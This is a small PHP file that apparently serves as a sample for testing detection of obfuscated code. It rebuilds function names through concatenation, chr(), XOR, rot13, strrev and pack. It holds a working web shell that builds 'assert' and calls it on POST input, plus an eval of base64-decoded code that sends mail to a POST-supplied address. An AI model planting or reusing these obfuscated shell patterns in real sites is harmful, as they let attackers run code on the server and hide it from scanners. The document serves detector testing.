<html><textarea name="x"></textarea>
<?php
// comment
$f = 'ass' . "ert"; # c
$g = CHR(101).chr(0x76).chr(97)."\x6c";
${"_PO"."ST"}['a'];
$f($_POST['x']);
EVAL(base64_decode('bWFpbCgkX1BPU1RbJ3RvJ10sICJzIiwgImIiKTs='));
$k = 'abc' ^ "\x01\x02\x03";
echo str_rot13('znvy') . strrev('liam');
$h = <<<EOT
  hello $x
  EOT;
$n = <<<'N'
raw \x41
N;
$p = pack('H*', '6d61696c');
$q = (  INT ) 5;
?>
tail
